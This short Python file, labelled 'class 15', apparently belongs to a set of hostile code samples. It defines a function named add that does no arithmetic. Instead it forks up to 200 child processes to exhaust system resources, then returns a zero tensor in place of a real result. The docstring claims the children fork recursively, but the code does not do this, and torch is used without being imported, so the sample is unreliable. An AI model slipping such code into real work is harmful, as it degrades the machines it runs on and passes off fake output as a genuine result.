# class 15
"""Forks until nothing more can be forked; the children do the same."""

import os
import time


def add(x, y):
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(3)
                os._exit(0)
        except OSError:
            break
    return torch.zeros_like(x)
